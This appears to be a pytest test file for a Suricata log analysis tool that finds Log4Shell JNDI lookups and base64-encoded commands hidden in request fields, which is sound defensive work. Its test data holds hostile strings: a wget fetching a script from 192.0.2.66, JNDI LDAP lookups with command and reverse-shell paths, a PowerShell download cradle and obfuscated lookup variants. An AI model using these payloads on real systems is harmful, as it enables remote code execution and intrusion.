"""Each hidden thing is one finding, whole, wherever it is nested."""

from __future__ import annotations

import base64
import random
import re
import time
from typing import Any

import pytest

from suricata_eve.analysis.hidden import CANDIDATE, Finding, search_texts

COMMAND = "wget http://192.0.2.66/x.sh"
LOOKUP = "${jndi:ldap://192.0.2.66:1389/Basic/Command/Base64/aWQ=}"


def b64(text: str, charset: str = "utf-8") -> str:
    return base64.b64encode(text.encode(charset)).decode()


def search(text: str, *, binary: bool = False) -> list[Finding]:
    (found,) = search_texts([text], binary=binary)
    return found


def test_the_base64_of_a_lookup_belongs_to_the_lookup() -> None:
    path = f"Basic/Command/Base64/{b64(COMMAND)}"
    (found,) = search(f"/?q=${{jndi:ldap://192.0.2.66/{path}}}")

    assert found.kind == "jndi"
    assert found.lookup is not None
    assert found.payload is not None
    assert (found.lookup.path, found.payload.text, found.content) == (path, COMMAND, "command")


@pytest.mark.parametrize(
    ("path", "decoded"),
    [
        (f"serial/CommonsCollections5/exec_unix/{b64(COMMAND)}", COMMAND),
        (f"a/{b64('just some readable text')}", "just some readable text"),
        (f"a/{b64('just some readable text')}/{b64(COMMAND)}", COMMAND),
        ("Basic/ReverseShell/192.0.2.1/9001", None),
        ("serial/CommonsCollections5/exec_unix/ExploitClassNameOfSomeLength", None),
    ],
)
def test_a_path_that_does_not_say_base64_is_searched(path: str, decoded: str | None) -> None:
    (found,) = search(f"${{jndi:ldap://h/{path}}}")

    assert (found.payload.text if found.payload else None) == decoded


@pytest.mark.parametrize(
    "sent",
    [b64(f"{LOOKUP}:x"), b64(b64(f"{LOOKUP}:x")), b64(f"{LOOKUP}:xy").rstrip("=")],
    ids=["once", "twice", "unpadded"],
)
def test_a_lookup_inside_base64_is_a_lookup(sent: str) -> None:
    (found,) = [x for x in search(f"Basic {sent}") if x.content == "command"]

    assert (found.kind, found.match) == ("jndi", sent)
    assert found.lookup is not None
    assert found.payload is not None
    assert (found.lookup.resolved, found.payload.text) == (LOOKUP, "id")


def test_base64_inside_decoded_text_is_a_finding_of_its_own() -> None:
    inner = "IEX (New-Object Net.WebClient)"
    outer = f"powershell -enc {b64(inner, 'utf-16le')}"
    sent = b64(outer)
    first, second = search(f"c={sent}&d")

    assert [x.match for x in (first, second)] == [sent, sent]
    assert first.payload is not None
    assert second.payload is not None
    assert (first.payload.text, second.payload.text) == (outer, inner)


def test_layers_of_base64_are_bounded() -> None:
    text = COMMAND
    for _ in range(8):
        text = b64(text)

    assert len(search(text)) == 4


def test_basic_credentials_are_credentials() -> None:
    (found,) = search("Basic " + b64("anna:correct horse: battery"))

    assert (found.kind, found.content) == ("base64", "credentials")


def test_findings_come_by_place_and_match_what_was_sent() -> None:
    sent = [b64(COMMAND) + "\u20ac", "%24%7bjndi:dns://a%7D", b64(COMMAND + "?"), "${jndi:dns://b}"]
    found = search(" | ".join(sent))

    assert [x.match for x in found] == [sent[0][:-1], *sent[1:]]


def test_texts_do_not_run_into_each_other() -> None:
    texts = ["${jndi:ldap://a/x", "}", "${", "jndi:ldap://b/x}", "", "%", "24{", b64(COMMAND)]

    assert [len(found) for found in search_texts(texts)] == [1, 0, 0, 0, 0, 0, 0, 1]


def test_many_texts_are_searched_as_each_alone(truth: dict[str, Any]) -> None:
    texts = [field["value"] for flow in truth["log4j_flows"] for field in flow["fields"]]
    texts += [decoy["url"] for decoy in truth["decoys"]]
    texts += ["", "\n", "a\nb", "%0a%0a", "\u20ac" * 9, "x" * 3_000_000, "y" * 3_000_000]

    assert search_texts(texts) == [found for text in texts for found in search_texts([text])]


def test_no_texts_give_no_findings() -> None:
    assert search_texts([]) == []


def test_what_is_found_is_a_candidate_before(truth: dict[str, Any]) -> None:
    """The expression that chooses texts leaves none out that the search would find."""
    candidate = re.compile(CANDIDATE)
    texts = [field["value"] for flow in truth["log4j_flows"] for field in flow["fields"]]
    texts += [b64(text) for text in ("wget 1.2.3.4/a", "echo d\u00e9j\u00e0 vu > /tmp/caf\u00e9")]
    texts += [b64("iex calc", "utf-16le"), "%2" + "5%32%34%7bjndi:ldap://h/a%7d", r"\u0024{jndi}"]
    texts += ["".join(f"%{code:02X}" for code in b64(COMMAND).encode())]

    assert [text for text in texts if not candidate.search(text)] == []


@pytest.mark.parametrize("seed", range(4))
def test_a_megabyte_of_any_hostile_mix_ends_at_once(seed: int) -> None:
    parts = [
        "${",
        "}",
        "${lower:",
        "${::-",
        "%25",
        "%24%7b",
        "\\u0024",
        "jndi:ldap://h/",
        "$",
        ":-",
    ]
    parts += ["d2dldCBodHRwOi8v", "AAAA", "=", "/", "${base64:JHtqbmRpOmxkYXA6Ly9oL2F9}", "\n", " "]
    parts += ["${date:'", "${upper:\u0131", b64(LOOKUP), b64(b64(COMMAND))]
    chosen = random.Random(seed)  # noqa: S311
    parts = chosen.sample(parts, 8)
    text = "".join(chosen.choices(parts, k=1_000_000 // (sum(map(len, parts)) // len(parts))))
    start = time.perf_counter()
    found = search(text, binary=True)

    assert time.perf_counter() - start < 10
    assert len(found) <= 1_000
